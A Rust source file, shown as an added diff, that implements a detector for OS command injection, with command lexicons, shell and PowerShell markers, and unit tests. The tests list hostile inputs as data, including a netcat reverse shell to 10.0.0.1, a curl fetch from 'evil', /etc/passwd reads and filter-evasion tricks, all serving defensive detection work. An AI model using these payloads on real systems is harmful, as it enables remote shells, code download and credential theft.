@@ -1,0 +1,986 @@
+//! OS command injection.
+//!
+//! A value injects a command when a shell (or `cmd.exe`) would see a command
+//! boundary followed by a command: `;id`, `| nc -e`, `` `whoami` ``, `$(curl ...)`,
+//! `&& ping -n 5`. The command word is read the way a shell reads it, so quoting and
+//! expansion tricks that vanish at run time (`c'a't`, `c\at`, `w$@hoami`, `c${x}url`,
+//! `/bin/ca?`) are undone first. Common English words that are also commands (`cat`,
+//! `find`, `echo`) need stronger evidence than rare ones (`whoami`, `wget`): a shell
+//! boundary such as `|` or `` ` ``, or a shell-looking argument (`-la`, `/etc`).
+//! Independent markers (`${IFS}`, shellshock `() {`, `/dev/tcp/`, `cmd /c`,
+//! `Invoke-Expression`), batch `FOR /F` and `IF EXIST` constructs, and SMTP/IMAP/POP3
+//! verbs injected after a line break complete the picture.
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex::Regex;
+
+use super::{AttackClass, InjectError};
+
+/// cmd.exe control flow: `FOR /F %%G IN (...) DO`, `for %a in (set) do`,
+/// `IF /I a==b`, `IF NOT EXIST x`. Too structured for a word list. ASCII word
+/// boundaries (`(?-u:\b)`) keep the regex on the fast DFA engine.
+const BATCH: &str = r#"(?i)(?-u:\b)for\s+(?:/[a-z]\s+(?:"[^"]*"\s+|'[^']*'\s+|[^\s%]+\s+)?)?%%?[^\s%]+\s+in\s*\(|(?-u:\b)if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)(?-u:\b)|(?-u:\b)if\s+(?:/i\s+)?(?:not\s+)?\S+\s*==\s*\S|(?-u:\b)if\s+(?:/i\s+)?(?:not\s+)?\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S"#;
+
+/// `alias name=value`: rebinding a command name, a staple of filter evasion.
+const ALIAS: &str = r#"(?i)(?-u:\b)alias\s+(?:[+-][a-z]+\+?\s+)?[!"%',.\-0-9@-Z_a-z]+=\S"#;
+
+/// Commands that ordinary text hardly ever contains as a word of its own.
+const RARE: &[&str] = &[
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "ash",
+    "busybox",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "ruby",
+    "php",
+    "lua",
+    "node",
+    "nodejs",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "ifconfig",
+    "ipconfig",
+    "nslookup",
+    "chmod",
+    "chown",
+    "chgrp",
+    "useradd",
+    "usermod",
+    "base64",
+    "xxd",
+    "telnet",
+    "ssh",
+    "scp",
+    "sftp",
+    "tftp",
+    "rsync",
+    "certutil",
+    "bitsadmin",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "wmic",
+    "cscript",
+    "wscript",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "netstat",
+    "sudo",
+    "crontab",
+    "nohup",
+    "mkfifo",
+    "openssl",
+    "awk",
+    "gawk",
+    "nawk",
+    "sed",
+    "xargs",
+    "rm",
+    "cp",
+    "mv",
+    "mkdir",
+    "rmdir",
+    "ls",
+    "ll",
+    "pwd",
+    "dig",
+    "ps",
+    "env",
+    "printenv",
+    "gzip",
+    "gunzip",
+    "bzip2",
+    "tar",
+    "unzip",
+    "gcc",
+    "cc",
+    "chattr",
+    "lsattr",
+    "lsof",
+    "strace",
+    "ltrace",
+    "nmap",
+    "traceroute",
+    "tracert",
+    "ipconfig",
+    "arp",
+    "route",
+    "iptables",
+    "grep",
+    "egrep",
+    "fgrep",
+    "rgrep",
+    "zgrep",
+    "zcat",
+    "bzcat",
+    "xzcat",
+    "nl",
+    "hexdump",
+    "od",
+    "base32",
+    "dd",
+    "shred",
+    "uptime",
+    "hostname",
+    "getent",
+    "visudo",
+    "passwd",
+    "whereis",
+    "sysctl",
+    "modprobe",
+    "insmod",
+    "dmesg",
+    "systemctl",
+    "journalctl",
+    "killall",
+    "pkill",
+    "pgrep",
+    "nice",
+    "renice",
+    "timeout",
+    "setsid",
+    "chroot",
+    "runuser",
+    "ftp",
+    "lftp",
+    "smbclient",
+    "mysql",
+    "psql",
+    "sqlite3",
+    "mongo",
+    "redis-cli",
+    "vi",
+    "vim",
+    "nano",
+    "emacs",
+    "jq",
+    "irb",
+    "tclsh",
+    "wish",
+    "expect",
+    "gdb",
+    "strings",
+    "readelf",
+    "objdump",
+    "curlie",
+    "aria2c",
+    "fetch",
+    "lwp-download",
+    "lwp-request",
+    "reg",
+    "regedit",
+    "sc",
+    "schtasks",
+    "net1",
+    "icacls",
+    "cacls",
+    "attrib",
+    "takeown",
+    "whoami.exe",
+    "cmd.exe",
+    "powershell.exe",
+    "nc.exe",
+    "dsquery",
+    "nltest",
+    "vssadmin",
+    "wevtutil",
+    "msiexec",
+    "installutil",
+    "msbuild",
+    "forfiles",
+    "pcalua",
+    "bash.exe",
+    "wsl",
+    "diskpart",
+    "xcopy",
+    "robocopy",
+    "findstr",
+    "ping6",
+    "sshpass",
+    "ssh-keygen",
+    "unset",
+    "cd",
+    "c89",
+    "c99",
+    "iwr",
+    "iwmi",
+    "irm",
+    "bsdtar",
+    "zstdcat",
+    "unxz",
+    "xzcat",
+    "ansible",
+    "cscli",
+    "flock",
+    "cpulimit",
+    "perf",
+    "ulimit",
+    "umask",
+    "compgen",
+];
+
+/// Commands that are also common words: they need a strong boundary or a
+/// shell-looking argument.
+const COMMON: &[&str] = &[
+    "cat", "find", "more", "less", "head", "tail", "echo", "ping", "kill", "sleep", "type", "dir",
+    "set", "who", "time", "date", "sort", "net", "w", "last", "top", "file", "which", "locate",
+    "diff", "cut", "tee", "wc", "uniq", "tr", "mount", "service", "reboot", "shutdown", "halt",
+    "history", "source", "read", "test", "yes", "start", "call", "copy", "del", "erase", "ren",
+    "rename", "move", "tree", "ver", "vol", "at", "print", "printf", "export", "whois", "host",
+    "install", "touch", "ex", "ed", "look", "split", "join", "paste", "fold", "rev", "tac", "seq",
+    "expand", "stat", "chef", "bc", "cal", "su", "make", "mail", "write", "wall", "clear", "nohup",
+    "rmt", "users", "groups", "finger", "zip", "java", "go", "gem", "pip", "npm", "git", "svn",
+    "apt", "yum", "dnf", "apk", "crash", "view", "script", "screen", "tmux", "watch", "xterm",
+    "lynx", "links", "pico", "telnet", "exit", "logout", "sync", "true", "false", "id", "exec",
+    "eval", "alias", "declare",
+];
+
+/// Commands that run the command after them (`time sh -c id`, `nohup ifconfig`).
+const PREFIX_COMMANDS: &[&str] = &[
+    "time", "nohup", "strace", "ltrace", "sudo", "nice", "timeout", "env", "exec", "xargs",
+    "watch", "chroot", "setsid", "stdbuf", "cpulimit",
+];
+
+/// Markers that mean shell or cmd.exe syntax on their own.
+const MARKERS: &[(&str, &str)] = &[
+    ("${ifs", "$IFS"),
+    ("$ifs", "$IFS"),
+    ("() {", "shellshock"),
+    ("(){", "shellshock"),
+    ("/dev/tcp/", "/dev/tcp"),
+    ("/dev/udp/", "/dev/udp"),
+    ("/bin/sh", "shell path"),
+    ("/bin/bash", "shell path"),
+    ("/bin/zsh", "shell path"),
+    ("/bin/busybox", "shell path"),
+    ("/usr/bin/env ", "shell path"),
+    ("cmd /c", "cmd /c"),
+    ("cmd.exe /c", "cmd /c"),
+    ("cmd /k", "cmd /c"),
+    ("%comspec%", "%COMSPEC%"),
+    ("invoke-expression", "powershell"),
+    ("invoke-webrequest", "powershell"),
+    ("invoke-command", "powershell"),
+    ("invoke-item", "powershell"),
+    ("invoke-restmethod", "powershell"),
+    ("start-process", "powershell"),
+    ("new-object", "powershell"),
+    ("downloadstring(", "powershell"),
+    ("downloadfile(", "powershell"),
+    ("-encodedcommand", "powershell"),
+    ("get-content", "powershell"),
+    ("get-childitem", "powershell"),
+    ("set-content", "powershell"),
+    ("iex(", "powershell"),
+    ("for /f", "batch for"),
+    ("for /l", "batch for"),
+    ("for /d", "batch for"),
+    ("for /r", "batch for"),
+    ("for %%", "batch for"),
+    ("if exist", "batch if"),
+    ("if not exist", "batch if"),
+    ("if /i", "batch if"),
+    ("if defined", "batch if"),
+    ("if errorlevel", "batch if"),
+    ("if not defined", "batch if"),
+    ("<<<", "here-string"),
+    ("{jndi:", "jndi lookup"),
+    ("${::-", "jndi lookup"),
+    ("${shell}", "$SHELL"),
+    ("$shell ", "$SHELL"),
+    ("iex (", "powershell"),
+];
+
+/// Mail protocol verbs that matter after an injected line break (SMTP, IMAP, POP3).
+const MAIL_VERBS: &[&str] = &[
+    "ehlo",
+    "helo",
+    "mail from",
+    "rcpt to",
+    "data",
+    "auth",
+    "starttls",
+    "rset",
+    "vrfy",
+    "expn",
+    "retr",
+    "dele",
+    "top",
+    "list",
+    "stat",
+    "uidl",
+    "apop",
+    "user",
+    "pass",
+    "quit",
+    "capa",
+    "noop",
+];
+
+/// IMAP commands (after a tag such as `a001 `).
+const IMAP_VERBS: &[&str] = &[
+    "login",
+    "authenticate",
+    "select",
+    "examine",
+    "create",
+    "delete",
+    "rename",
+    "subscribe",
+    "list",
+    "lsub",
+    "status",
+    "append",
+    "check",
+    "close",
+    "expunge",
+    "search",
+    "fetch",
+    "store",
+    "copy",
+    "uid",
+    "logout",
+    "capability",
+    "noop",
+];
+
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Boundary {
+    /// `` ` ``, `$(`, `<(`, `>(`: command substitution, the next word is a command.
+    Subst,
+    /// `|`, `||`, `&&`, a line break: only a shell uses these.
+    Strong,
+    /// `;` and a single `&`: also punctuation and parameter separators.
+    Weak,
+    /// The start of the value.
+    Start,
+}
+
+pub struct Scanner {
+    lexicon: Vec<(String, Strength)>,
+    markers: AhoCorasick,
+    batch: Regex,
+    alias: Regex,
+}
+
+impl std::fmt::Debug for Scanner {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("command::Scanner").finish_non_exhaustive()
+    }
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Strength {
+    Rare,
+    Common,
+}
+
+/// The command lexicon, lowercase and sorted for binary search: a lookup runs for
+/// every word after a boundary, so it must not scan ~400 names.
+fn lexicon() -> Vec<(String, Strength)> {
+    let mut words: Vec<(String, Strength)> = COMMON
+        .iter()
+        .map(|w| (w.to_ascii_lowercase(), Strength::Common))
+        .chain(
+            RARE.iter()
+                .map(|w| (w.to_ascii_lowercase(), Strength::Rare)),
+        )
+        .collect();
+    // Rare wins when a word is in both lists: sort by name, rare first, dedup.
+    words.sort_by(|a, b| {
+        a.0.cmp(&b.0)
+            .then((a.1 == Strength::Common).cmp(&(b.1 == Strength::Common)))
+    });
+    words.dedup_by(|later, earlier| later.0 == earlier.0);
+    words
+}
+
+impl Scanner {
+    fn lookup(&self, word: &str) -> Option<Strength> {
+        let mut buf = [0u8; 24];
+        let lower = buf.get_mut(..word.len())?;
+        lower.copy_from_slice(word.as_bytes());
+        lower.make_ascii_lowercase();
+        let lower = std::str::from_utf8(lower).ok()?;
+        self.lexicon
+            .binary_search_by(|(name, _)| name.as_str().cmp(lower))
+            .ok()
+            .and_then(|i| self.lexicon.get(i))
+            .map(|(_, strength)| *strength)
+    }
+}
+
+fn at(bytes: &[u8], i: usize) -> u8 {
+    bytes.get(i).copied().unwrap_or(0)
+}
+
+impl Scanner {
+    pub fn new() -> Result<Self, InjectError> {
+        let class = AttackClass::CommandInjection;
+        let markers = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::LeftmostFirst)
+            .build(MARKERS.iter().map(|(p, _)| *p))
+            .map_err(|source| InjectError::Build { class, source })?;
+        let regex = |pattern: &str| {
+            Regex::new(pattern).map_err(|source| InjectError::Pattern { class, source })
+        };
+        Ok(Self {
+            lexicon: lexicon(),
+            markers,
+            batch: regex(BATCH)?,
+            alias: regex(ALIAS)?,
+        })
+    }
+
+    /// Scan one URL-decoded value.
+    pub fn scan(&self, text: &str) -> Option<(&'static str, usize)> {
+        if let Some(m) = self.markers.find(text) {
+            return MARKERS
+                .get(m.pattern().as_usize())
+                .map(|(_, reason)| (*reason, m.start()));
+        }
+        if let Some(m) = self.batch.find(text) {
+            return Some(("batch control flow", m.start()));
+        }
+        if let Some(m) = self.alias.find(text) {
+            return Some(("shell alias", m.start()));
+        }
+        let bytes = text.as_bytes();
+        if let Some(hit) = self.command_after(bytes, 0, Boundary::Start) {
+            return Some(hit);
+        }
+        let mut i = 0;
+        while i < bytes.len() {
+            let b = at(bytes, i);
+            let next = at(bytes, i + 1);
+            let (boundary, width) = match b {
+                b'`' => (Boundary::Subst, 1),
+                b'$' if next == b'(' => (
+                    Boundary::Subst,
+                    if at(bytes, i + 2) == b'(' { 3 } else { 2 },
+                ),
+                b'<' | b'>' if next == b'(' => (Boundary::Subst, 2),
+                b'|' if next == b'|' => (Boundary::Strong, 2),
+                b'|' => (Boundary::Strong, 1),
+                b'&' if next == b'&' => (Boundary::Strong, 2),
+                b'&' => (Boundary::Weak, 1),
+                b';' => (Boundary::Weak, 1),
+                b'\n' | b'\r' => {
+                    if let Some(hit) = mail_verb(bytes, i) {
+                        return Some(hit);
+                    }
+                    (Boundary::Strong, 1)
+                }
+                b'{' => (Boundary::Weak, 1),
+                _ => {
+                    i += 1;
+                    continue;
+                }
+            };
+            if let Some(hit) = self.command_after(bytes, i + width, boundary) {
+                return Some((hit.0, i));
+            }
+            i += width;
+        }
+        glob_path(bytes).or_else(|| bracket_glob(bytes))
+    }
+
+    fn command_after(
+        &self,
+        bytes: &[u8],
+        i: usize,
+        boundary: Boundary,
+    ) -> Option<(&'static str, usize)> {
+        self.command_after_depth(bytes, i, boundary, 0)
+    }
+
+    /// Read a command word starting at `i` as a shell would, and decide. `depth` is 1
+    /// when looking at the command after a prefix command (`time`, `nohup`).
+    fn command_after_depth(
+        &self,
+        bytes: &[u8],
+        i: usize,
+        boundary: Boundary,
+        depth: u8,
+    ) -> Option<(&'static str, usize)> {
+        let mut i = i;
+        // Blanks and grouping before the command: `; (id)`, `| { id; }`, `! id`.
+        while matches!(
+            at(bytes, i),
+            b' ' | b'\t' | b'\n' | b'\r' | b'(' | b'{' | b'!' | b'@'
+        ) {
+            i += 1;
+        }
+        let start = i;
+        let mut word = [0u8; 24];
+        let mut len = 0usize;
+        let mut obfuscated = false;
+        let mut path = false;
+        let mut quote_at: Option<usize> = None;
+        let brace = start > 0 && at(bytes, start - 1) == b'{';
+        loop {
+            let b = at(bytes, i);
+            match b {
+                b'\'' | b'"' => {
+                    // Quoting inside a word vanishes: `c'a't`, `w"h"o`. Quotes around a
+                    // whole word (`"TRUE"`) prove nothing.
+                    if len > 0 {
+                        quote_at = Some(len);
+                    }
+                    i += 1;
+                }
+                b'\\' if at(bytes, i + 1).is_ascii_alphanumeric() => {
+                    obfuscated = true;
+                    i += 1;
+                }
+                b'$' if matches!(
+                    at(bytes, i + 1),
+                    b'@' | b'*' | b'_' | b'?' | b'!' | b'#' | b'-'
+                ) || at(bytes, i + 1).is_ascii_digit() =>
+                {
+                    obfuscated = true;
+                    i += 2;
+                }
+                b'$' if at(bytes, i + 1) == b'{' => {
+                    // `${x}` or `${gcc7.4}`: an (empty) expansion inside the word.
+                    let close = bytes
+                        .get(i..)
+                        .and_then(|r| r.iter().position(|c| *c == b'}'));
+                    match close {
+                        Some(p) if p < 32 => {
+                            obfuscated = true;
+                            i += p + 1;
+                        }
+                        _ => break,
+                    }
+                }
+                b'$' if len > 0 && at(bytes, i + 1).is_ascii_alphabetic() => {
+                    // `cat$u`: an unset variable glued to the word.
+                    obfuscated = true;
+                    i += 1;
+                    while at(bytes, i).is_ascii_alphanumeric() || at(bytes, i) == b'_' {
+                        i += 1;
+                    }
+                }
+                b'/' => {
+                    // `/bin/cat`, `/usr/bin/id`: keep the last segment.
+                    path = true;
+                    len = 0;
+                    i += 1;
+                }
+                b'?' | b'*' if path || boundary != Boundary::Start => {
+                    // `/bin/ca?`, `;c?t`: a glob that the shell resolves to a command.
+                    let rest = bytes.get(i..).unwrap_or(&[]);
+                    let glob_len = rest
+                        .iter()
+                        .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'?' | b'*')))
+                        .unwrap_or(rest.len());
+                    let head = word.get(..len).unwrap_or(&[]);
+                    let tail = rest.get(..glob_len).unwrap_or(&[]);
+                    let literal = !head.is_empty() || tail.iter().any(u8::is_ascii_alphanumeric);
+                    let matched = literal
+                        && RARE.iter().chain(COMMON).any(|name| {
+                            name.len() > 1 && glob_matches(head, tail, name.as_bytes())
+                        });
+                    return matched.then_some(("globbed command", start));
+                }
+                _ if b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.') => {
+                    if let Some(slot) = word.get_mut(len) {
+                        *slot = b;
+                        len += 1;
+                    } else {
+                        return None;
+                    }
+                    i += 1;
+                }
+                _ => break,
+            }
+        }
+        if len == 0 {
+            return None;
+        }
+        let word = std::str::from_utf8(word.get(..len)?).ok()?;
+        let word = word.strip_suffix(".exe").unwrap_or(word);
+        // `python3.10`, `php7`: versioned binaries; `ansible-config`: tool families.
+        let strength = self
+            .lookup(word)
+            .or_else(|| {
+                let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+                if base.len() < word.len() && base.len() > 1 {
+                    self.lookup(base)
+                } else {
+                    None
+                }
+            })
+            .or_else(|| {
+                let (family, _) = word.split_once('-')?;
+                (family.len() > 2).then(|| self.lookup(family)).flatten()
+            })?;
+        if quote_at.is_some_and(|at_len| len > at_len) {
+            obfuscated = true;
+        }
+        let after = at(bytes, i);
+        if after == b',' {
+            // Bash brace expansion `{cat,/etc/passwd}`; elsewhere a list ("gzip, br").
+            return brace.then_some(("brace expansion", start));
+        }
+        // `id=5`, `type=json`: a parameter or assignment, not a command. `cmd,arg}`
+        // is bash brace expansion and counts.
+        if after == b'=' || (after == b':' && at(bytes, i + 1) != b'\\') {
+            return None;
+        }
+        if after.is_ascii_alphanumeric() || after >= 0x80 {
+            return None;
+        }
+        let arg = shell_argument(bytes, i);
+        let end = arg_end(bytes, i);
+        let decided = match (boundary, strength) {
+            (Boundary::Subst, _) | (Boundary::Strong, Strength::Rare) => true,
+            (Boundary::Strong, Strength::Common) => arg || end || obfuscated || path,
+            (Boundary::Weak, Strength::Rare) => {
+                arg || end || obfuscated || path || plain_argument(bytes, i)
+            }
+            (Boundary::Weak, Strength::Common) => {
+                arg || obfuscated || path || (end && at(bytes, start.saturating_sub(1)) == b';')
+            }
+            // A value that *is* a command line: the arguments must look like one.
+            (Boundary::Start, _) => {
+                start_argument(bytes, i)
+                    || obfuscated
+                    // A prefix command running a shell: `time sh -c id`, `nohup bash -i`.
+                    || (matches!(at(bytes, i), b' ' | b'\t' | b'+')
+                        && depth == 0
+                        && PREFIX_COMMANDS.iter().any(|p| p.eq_ignore_ascii_case(word))
+                        && self.command_after_depth(bytes, i, Boundary::Start, 1).is_some())
+                    // The command after a prefix command: `time ifconfig`.
+                    || (depth == 1 && strength == Strength::Rare && arg_end(bytes, i))
+            }
+        };
+        decided.then_some(("command after shell boundary", start))
+    }
+}
+
+/// Whether what follows the command word at `i` looks like shell arguments: an option
+/// (`-la`, `--version`), an absolute or home path, a redirection, a pipe, a variable,
+/// a quote, a URL, or brace expansion (`{cat,/etc/passwd}`).
+fn shell_argument(bytes: &[u8], i: usize) -> bool {
+    let mut j = i;
+    while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
+        j += 1;
+    }
+    if j == i
+        && !matches!(
+            at(bytes, j),
+            b'<' | b'>' | b'|' | b';' | b'&' | b'`' | b'$' | b')'
+        )
+    {
+        return false;
+    }
+    let b = at(bytes, j);
+    let next = at(bytes, j + 1);
+    match b {
+        b'-' => next.is_ascii_alphabetic() || next == b'-',
+        b'/' | b'~' | b'$' | b'`' | b'>' | b'<' | b'|' | b';' | b'\\' | b'*' => true,
+        b'&' => next == b'&' || next == b'>',
+        b'.' => next == b'/' || next == b'.',
+        b')' => true,
+        b'\'' | b'"' => true,
+        b'%' => next == b'%' || next.is_ascii_alphabetic(),
+        _ if b.is_ascii_alphabetic() => {
+            // `c:\`, `http://`, `file.txt`-like arguments.
+            let rest = bytes.get(j..).unwrap_or(&[]);
+            let word_len = rest
+                .iter()
+                .position(|c| {
+                    !(c.is_ascii_alphanumeric() || *c == b'.' || *c == b'_' || *c == b'-')
+                })
+                .unwrap_or(rest.len());
+            let sep = at(rest, word_len);
+            sep == b':' && (word_len == 1 || matches!(at(rest, word_len + 1), b'\\' | b'/'))
+        }
+        _ => false,
+    }
+}
+
+/// Arguments of a value that starts with a command word (`ls -la`, `cat /etc/passwd`,
+/// `nc -e`, `wget http://...`, `sort > x`): an option, an absolute or home path, a
+/// variable, a redirection or a pipe after a blank. Prose ("cat pictures") has none.
+fn start_argument(bytes: &[u8], i: usize) -> bool {
+    let mut j = i;
+    while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
+        j += 1;
+    }
+    if j == i {
+        return false;
+    }
+    let b = at(bytes, j);
+    let next = at(bytes, j + 1);
+    match b {
+        b'-' => next.is_ascii_alphabetic() || next == b'-',
+        b'/' | b'~' | b'$' | b'`' | b'>' | b'<' | b'|' => true,
+        _ if b.is_ascii_alphabetic() => {
+            // `c:\`, `http://`.
+            let rest = bytes.get(j..).unwrap_or(&[]);
+            let word_len = rest
+                .iter()
+                .position(|c| !c.is_ascii_alphanumeric())
+                .unwrap_or(rest.len());
+            at(rest, word_len) == b':' && matches!(at(rest, word_len + 1), b'\\' | b'/')
+        }
+        _ => false,
+    }
+}
+
+/// Whether `head` followed by the glob `tail` (`?` one char, `*` any run) matches
+/// `name`, case-insensitively.
+fn glob_matches(head: &[u8], tail: &[u8], name: &[u8]) -> bool {
+    if name.len() < head.len() || !name[..head.len()].eq_ignore_ascii_case(head) {
+        return false;
+    }
+    glob(tail, &name[head.len()..])
+}
+
+fn glob(pattern: &[u8], name: &[u8]) -> bool {
+    match (pattern.split_first(), name.split_first()) {
+        (None, None) => true,
+        (Some((b'*', rest)), _) => {
+            glob(rest, name) || name.split_first().is_some_and(|(_, n)| glob(pattern, n))
+        }
+        (Some((b'?', rest)), Some((_, n))) => glob(rest, n),
+        (Some((p, rest)), Some((c, n))) => p.eq_ignore_ascii_case(c) && glob(rest, n),
+        _ => false,
+    }
+}
+
+/// Any plain word argument (`nc attacker.net 4444`): enough after a weak boundary for
+/// a rare command, never for a common word.
+fn plain_argument(bytes: &[u8], i: usize) -> bool {
+    matches!(at(bytes, i), b' ' | b'\t' | b'+') && {
+        let mut j = i;
+        while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
+            j += 1;
+        }
+        at(bytes, j).is_ascii_alphanumeric()
+    }
+}
+
+/// The command word ends the value or is followed by another shell boundary.
+fn arg_end(bytes: &[u8], i: usize) -> bool {
+    let mut j = i;
+    while matches!(at(bytes, j), b' ' | b'\t') {
+        j += 1;
+    }
+    j >= bytes.len()
+        || matches!(
+            at(bytes, j),
+            b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'\r' | b'#' | b'}'
+        )
+}
+
+/// SMTP, POP3 and IMAP verbs at the start of an injected line (`%0d%0aRCPT TO:`).
+fn mail_verb(bytes: &[u8], i: usize) -> Option<(&'static str, usize)> {
+    let mut j = i;
+    while matches!(at(bytes, j), b'\n' | b'\r') {
+        j += 1;
+    }
+    let line_end = bytes
+        .get(j..)
+        .and_then(|r| r.iter().position(|b| matches!(b, b'\r' | b'\n')))
+        .map_or(bytes.len(), |p| j + p);
+    let line = bytes.get(j..line_end)?;
+    let verb_match = |verb: &str, line: &[u8]| {
+        let v = verb.as_bytes();
+        line.len() >= v.len()
+            && line
+                .get(..v.len())
+                .is_some_and(|l| l.eq_ignore_ascii_case(v))
+            && matches!(at(line, v.len()), 0 | b' ' | b':')
+    };
+    // Verbs are short commands: a prose line starting "Data shows..." is long.
+    if line.len() <= 80
+        && MAIL_VERBS.iter().any(|v| verb_match(v, line))
+        && line.iter().filter(|b| **b == b' ').count() <= 3
+    {
+        // A verb alone on a line or with a short argument.
+        return Some(("mail protocol command", j));
+    }
+    // IMAP: `<tag> <verb> ...`.
+    let tag_len = line.iter().position(|b| *b == b' ')?;
+    let tag = line.get(..tag_len)?;
+    if tag.is_empty()
+        || tag.len() > 8
+        || !tag.iter().all(u8::is_ascii_alphanumeric)
+        || !tag.iter().any(u8::is_ascii_digit)
+    {
+        return None;
+    }
+    let rest = line.get(tag_len + 1..)?;
+    IMAP_VERBS
+        .iter()
+        .any(|v| verb_match(v, rest))
+        .then_some(("mail protocol command", j))
+}
+
+/// A glob inside a system path: `/etc/pas[s]wd`, `/bi[n]/bash`, `/usr/[a-z]in/sh`,
+/// `/etc/*sswd`. The shell expands it; no legitimate request spells paths this way.
+fn bracket_glob(bytes: &[u8]) -> Option<(&'static str, usize)> {
+    const ROOTS: &[&[u8]] = &[
+        b"/etc", b"/bin", b"/bi[", b"/usr", b"/sbin", b"/proc", b"/dev", b"/var", b"/tmp", b"/[",
+    ];
+    let mut i = 0;
+    while let Some(p) = bytes
+        .get(i..)
+        .and_then(|r| r.iter().position(|b| *b == b'/'))
+    {
+        let start = i + p;
+        let rest = bytes.get(start..).unwrap_or(&[]);
+        let path_len = rest
+            .iter()
+            .position(|b| matches!(b, b' ' | b'+' | b'&' | b'=' | b';' | b'"' | b'\''))
+            .unwrap_or(rest.len());
+        let path = rest.get(..path_len).unwrap_or(&[]);
+        let rooted = ROOTS
+            .iter()
+            .any(|r| path.len() >= r.len() && path[..r.len()].eq_ignore_ascii_case(r));
+        if rooted
+            && path.len() > 3
+            && path.iter().skip(1).any(|b| matches!(b, b'[' | b'?' | b'*'))
+            && path.iter().skip(1).any(u8::is_ascii_alphabetic)
+        {
+            return Some(("glob path", start));
+        }
+        i = start + path_len.max(1);
+    }
+    None
+}
+
+/// A path made of glob characters, `/???/??t /???/p??s??`: shells expand it to a
+/// command or file; nothing else writes paths this way.
+fn glob_path(bytes: &[u8]) -> Option<(&'static str, usize)> {
+    let mut i = 0;
+    while i < bytes.len() {
+        if at(bytes, i) == b'/' {
+            let seg_start = i + 1;
+            let mut j = seg_start;
+            let mut globs = 0;
+            while j < bytes.len()
+                && !matches!(at(bytes, j), b'/' | b' ' | b'+' | b'&' | b'=' | b';')
+            {
+                if matches!(at(bytes, j), b'?' | b'*' | b'[') {
+                    globs += 1;
+                }
+                j += 1;
+            }
+            let seg_len = j - seg_start;
+            if globs >= 2 && seg_len > 0 && globs * 2 >= seg_len && at(bytes, j) == b'/' {
+                return Some(("glob path", i));
+            }
+            i = j;
+        } else {
+            i += 1;
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hit(s: &str) -> bool {
+        Scanner::new().is_ok_and(|x| x.scan(s).is_some())
+    }
+
+    #[test]
+    fn detects_injections() {
+        for attack in [
+            ";id",
+            "x=;who",
+            "127.0.0.1; cat /etc/passwd",
+            "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444",
+            "`whoami`",
+            "$(curl http://evil/x.sh)",
+            "a && ping -c 10 127.0.0.1",
+            ";c'a't /etc/passwd",
+            "; w$@hoami",
+            "cat${IFS}/etc/passwd",
+            "() { :; }; /bin/bash -c 'id'",
+            "ls -la",
+            "cmd /c dir",
+            "FOR /F %%G IN ('dir') DO ECHO %%G",
+            "IF EXIST C:\\x.txt (CMD)",
+            "\r\nRCPT TO:<a@b.c>",
+            "\r\na001 LOGIN user pass",
+            "/???/??t /???/p??s??",
+            ";/bin/ca?+/et*/passwd",
+            "{cat,/etc/passwd}",
+            "for %variable in (set) do command",
+            "IF /I item1==item2 CMD",
+            "alias eennvv=env&eennvv whoami",
+            "time sh -c whoami",
+            "/etc/pas[s]wd",
+            "/usr/[a-z]in/bash",
+            "<(cat file)",
+            ";iwr http://example.com/x.ps1",
+            "python3.10 -c 'import os'",
+            "& FOR %- IN (a,b,c) DO cmd",
+            "IF %ERRORLEVEL% EQU 2 goto sub",
+            "time ifconfig",
+            "time; ansible-config dump",
+            ";perf --version",
+        ] {
+            assert!(hit(attack), "missed {attack:?}");
+        }
+    }
+
+    #[test]
+    fn passes_ordinary_text() {
+        for benign in [
+            "rock & roll",
+            "a=1&id=5&type=json",
+            "cat pictures",
+            "find a store near me",
+            "Tom & Jerry; who is faster",
+            "fish & chips",
+            "python tutorial",
+            "R&D",
+            "Q&A session",
+            "echo chamber",
+            "time=10:30",
+            "data shows the trend\nand more",
+            "/search?q=x",
+            "fields=id,name,email",
+            "gzip, deflate, br",
+            "\"TRUE\"",
+            "BASE; SET SWAROVSKI",
+            "get /api/users",
+            "/api/v1/contacts/{id}",
+            "for a while in (the) park",
+            "if you want",
+            "/api/items[0]/name",
+            "time flies",
+            "time python tutorial",
+        ] {
+            assert!(!hit(benign), "flagged {benign:?}");
+        }
+    }
+}
